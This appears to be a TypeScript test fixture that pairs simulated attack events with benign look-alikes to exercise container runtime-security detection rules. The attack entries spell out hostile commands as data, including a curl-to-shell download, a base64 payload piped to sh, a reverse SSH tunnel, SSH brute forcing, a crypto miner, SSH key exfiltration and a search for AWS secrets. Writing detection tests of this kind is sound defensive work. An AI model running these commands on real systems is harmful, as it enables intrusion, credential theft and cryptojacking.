import { inPod, onHost, PERSON, type AttackCase } from './attack-case.ts'

export const MORE_ATTACK_CASES: readonly AttackCase[] = [
  {
    rule: 'Create Symlink Over Sensitive Files',
    attack: inPod('/bin/ln', 'ln -s / /var/log/root', 'sh', {
      'evt.arg.target': '/',
      'evt.arg.linkpath': '/var/log/root',
    }),
    usual: onHost('/usr/bin/wineserver', 'wineserver', 'systemd', {
      'evt.arg.target': '/',
      'evt.arg.linkpath': '/root/.wine/dosdevices/z:',
    }),
  },
  {
    rule: 'Create Hidden Files or Directories',
    attack: inPod('/bin/sh', 'sh -c unzip', 'sh', { 'fd.name': '/dev/shm/.x' }),
    usual: onHost('/usr/bin/git', 'git commit', 'bash', {
      ...PERSON,
      'fd.name': '/home/ann/shop/.git/index.lock',
    }),
  },
  {
    rule: 'DB program spawned process',
    attack: inPod('/bin/sh', 'sh -c curl http://198.51.100.7/x | sh', 'postgres'),
    usual: inPod(
      '/bin/sh',
      'sh -c cp pg_wal/000000010000000000000042 /archive/000000010000000000000042',
      'postgres',
    ),
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    attack: inPod('/sbin/debugfs', 'debugfs -w /dev/sda1', 'bash'),
    usual: inPod('/sbin/debugfs', 'debugfs /dev/sdb', 'csi-driver', {
      'container.image.repository': 'registry.k8s.io/csi-driver',
    }),
  },
  {
    rule: 'Decoding Payload in Container',
    attack: inPod('/bin/sh', 'sh -c echo aWQK | base64 -d | sh', 'apache2'),
    usual: inPod('/usr/bin/base64', 'base64 -d', 'containerd-shim'),
  },
  {
    rule: 'Delete or rename shell history',
    attack: onHost('/usr/bin/rm', 'rm /root/.bash_history', 'bash', {
      'evt.type': 'unlinkat',
      'evt.arg.name': '/root/.bash_history',
    }),
    usual: onHost('/usr/bin/zsh', 'zsh', 'sshd', {
      ...PERSON,
      'evt.type': 'rename',
      'evt.arg.oldpath': '/home/ann/.zsh_history.new',
    }),
  },
  {
    rule: 'Detect crypto miners using the Stratum protocol',
    attack: onHost('/tmp/xmrig', 'xmrig -o stratum+tcp://pool.example:3333', 'sh'),
    usual: onHost('/usr/bin/grep', 'grep -r stratum+tcp /etc', 'bash', PERSON),
  },
  {
    rule: 'Detect outbound connections to common miner pool ports',
    attack: inPod('/tmp/kworker', 'kworker', 'sh', {
      'fd.name': '10.0.0.5:40000->198.51.100.7:3333',
    }),
    usual: inPod('/usr/sbin/squid', 'squid', 'containerd-shim', {
      'fd.name': '10.0.0.5:40000->198.51.100.7:443',
    }),
  },
  {
    rule: 'Detect release_agent File Container Escapes',
    attack: inPod('/bin/sh', 'sh', 'bash', { 'fd.name': '/tmp/cgrp/release_agent' }),
    usual: inPod('/usr/lib/systemd/systemd', 'systemd', 'containerd-shim', {
      'fd.name': '/run/systemd/release_agent',
    }),
  },
  {
    rule: 'Directory traversal monitored file read',
    attack: inPod('/usr/sbin/httpd', 'httpd', 'httpd', {
      'fd.name': '/etc/passwd',
      'fd.nameraw': '/usr/local/apache2/htdocs/../../../../etc/passwd',
    }),
    usual: inPod('/opt/app/bin/app', 'app', 'containerd-shim', {
      'fd.name': '/etc/app/app.conf',
      'fd.nameraw': '/opt/app/bin/../../../etc/app/app.conf',
    }),
  },
  {
    rule: 'Disallowed SSH Connection Non Standard Port',
    attack: inPod('/usr/bin/ssh', 'ssh -N -R 9000:localhost:22 x@198.51.100.7 -p 443', 'sh', {
      'fd.name': '10.0.0.5:40000->198.51.100.7:443',
    }),
    usual: onHost('/usr/bin/ssh', 'ssh -p 443 git@ssh.github.com git-upload-pack shop.git', 'git', {
      ...PERSON,
      'fd.name': '10.0.0.5:40000->140.82.121.36:443',
    }),
  },
  {
    rule: 'Disallowed SSH Connection',
    attack: inPod('/usr/bin/hydra', 'hydra -l root ssh://10.0.0.9', 'sh', {
      'fd.name': '10.0.0.5:40000->10.0.0.9:22',
    }),
    usual: onHost('/usr/bin/ssh', 'ssh git@git.example.com git-upload-pack shop.git', 'git', {
      ...PERSON,
      'fd.name': '10.0.0.5:40000->10.0.0.9:22',
    }),
  },
  {
    rule: 'Drop and execute new binary in container',
    attack: inPod('/tmp/.x', '.x', 'sh'),
    usual: inPod('/opt/app/helper', 'helper', 'containerd-shim'),
  },
  {
    rule: 'Execution from /dev/shm',
    attack: inPod('/dev/shm/.x', '.x', 'sh', { 'evt.res': 'SUCCESS', 'proc.cwd': '/dev/shm/' }),
    usual: onHost('/usr/bin/bash', 'bash /dev/shm/try.sh', 'bash', {
      ...PERSON,
      'evt.res': 'SUCCESS',
      'proc.cwd': '/dev/shm/',
    }),
  },
  {
    rule: 'Exfiltrating Artifacts via Kubernetes Control Plane',
    attack: inPod('/bin/tar', 'tar cf - /root/.ssh/id_rsa', 'containerd-shim', {
      'fd.name': '/root/.ssh/id_rsa',
    }),
    usual: inPod('/bin/tar', 'tar cf - /var/log/app.log', 'containerd-shim', {
      'fd.name': '/var/log/app.log',
    }),
  },
  {
    rule: 'Fileless execution via memfd_create',
    attack: inPod('memfd:x', 'x', 'python3'),
    usual: onHost('memfd:runc_cloned:/proc/self/exe', 'runc init', 'containerd-shim', {
      'proc.name': 'runc',
    }),
  },
  {
    rule: 'Find AWS Credentials',
    attack: inPod('/bin/grep', 'grep -r aws_secret_access_key /', 'sh', {
      'user.name': 'www-data',
      'proc.pcmdline': 'sh /tmp/aws.sh',
      'proc.cwd': '/',
    }),
    usual: onHost('/usr/bin/grep', 'grep aws_access_key_id .aws/credentials', 'bash', {
      ...PERSON,
      'proc.pcmdline': 'bash',
      'proc.cwd': '/home/ann/',
    }),
  },
]
